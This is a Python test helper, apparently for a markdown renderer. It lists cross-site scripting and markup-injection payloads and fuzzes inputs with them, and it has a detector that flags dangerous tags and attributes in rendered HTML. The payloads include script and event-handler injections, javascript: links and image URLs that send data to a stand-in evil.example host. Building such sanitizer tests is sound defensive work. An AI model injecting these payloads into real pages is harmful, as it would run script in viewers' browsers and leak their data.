"""List texts with which an agent may attack the page that shows them, and find attacks in a page."""

from __future__ import annotations

import re

from hypothesis import strategies as st

from tests.markdown.markdown_documents import Page

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<form action=https://evil.example><input name=a><button>b</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<details ontoggle=alert(1) open>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[r]\n\n[r]: javascript:alert(1)",
    "![x](https://evil.example/?leak=secret)",
    "![x](//evil.example/x.png)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:text/html;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
    '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
    'https://a.example/"onmouseover="alert(1)',
    "```<script>\nx\n```",
    '```"onload="alert(1)\nx\n```',
    "```python\n</code></pre><script>alert(1)</script>\n",
    "~~~\n</pre><img src=x onerror=alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\style{background:url(https://evil.example)}{x}$$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\class{x\" onload=alert(1)}{y}$",
    r"\(</math><script>alert(1)</script>\)",
    "|<script>|a|\n|-|-|\n|<img src=x onerror=alert(1)>|`<b>`|",
    "[^<script>]: x\n\n[^1]\n\n[^1]: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "> [!NOTE<script>]\n> x",
    "> [!WARNING]<img src=x onerror=alert(1)>\n> x",
    '[^"onmouseover=alert(1)]: x\n\n[^"onmouseover=alert(1)]',
    "|<img src=x onerror=alert(1)>|\n|-|\n|a & <b onclick=alert(1)>|\n|`<script>`|\n|x|",
    "| <img src=x onerror=alert(1)>",
    "$$\n<img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>",
    "**<svg onload=alert(1)>",
    "[<img src=x onerror=alert(1)>](javascript:alert(1",
    "<https://a.example/<script>alert(1)</script>",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m\x9b31m\x08\x08\r",
    "\u202egnp.exe\u2066",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>",
    "\\`<script>alert(1)</script>`",
    "`` `<script>` ``<b onclick=alert(1)>`",
    "<https://a.example/`><script>`>",
    "a\n===\n<div onclick=alert(1)>\n```\n<script>\n```\n</div>",
    "    <script>\n- ```\n  <script>\n<script>alert(1)</script>",
]

_glue = st.sampled_from(
    ["", " ", "\n", "\n\n", "`", "``", "*", "$", "[", "](", "> ", "- ", "|", "\\", "<", "```\n", "    "]
)
mixes = st.lists(st.one_of(st.sampled_from(PAYLOADS), _glue, st.text(max_size=4)), max_size=12).map("".join)

_FORBIDDEN = frozenset(
    [
        "script",
        "style",
        "iframe",
        "svg",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "frame",
        "applet",
        "template",
        "noscript",
        "audio",
        "video",
        "source",
        "track",
        "canvas",
        "foreignobject",
        "annotation-xml",
        "mglyph",
        "malignmark",
        "title",
    ]
)
_RASTER = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=\s]*")


def attacks(html: str) -> list[str]:
    """Return the parts of *html* that could run, load or send something."""
    page = Page(html)
    found = [f"comment {comment}" for comment in page.comments]
    for tag, attributes in page.elements:
        if tag in _FORBIDDEN:
            found.append(tag)
        for name, value in attributes.items():
            is_bad = (
                name.startswith("on")
                or name
                in {
                    "srcset",
                    "srcdoc",
                    "action",
                    "formaction",
                    "background",
                    "poster",
                    "xlink:href",
                    "id",
                    "name",
                }
                or (
                    name == "href"
                    and (tag != "a" or not value.lower().startswith(("http://", "https://", "mailto:")))
                )
                or (name == "src" and not (tag == "img" and _RASTER.fullmatch(value)))
                or (name == "style" and ("url" in value or "(" in value.replace("rgba(", "")))
            )
            if is_bad:
                found.append(f"{tag} {name}={value}")
    return found
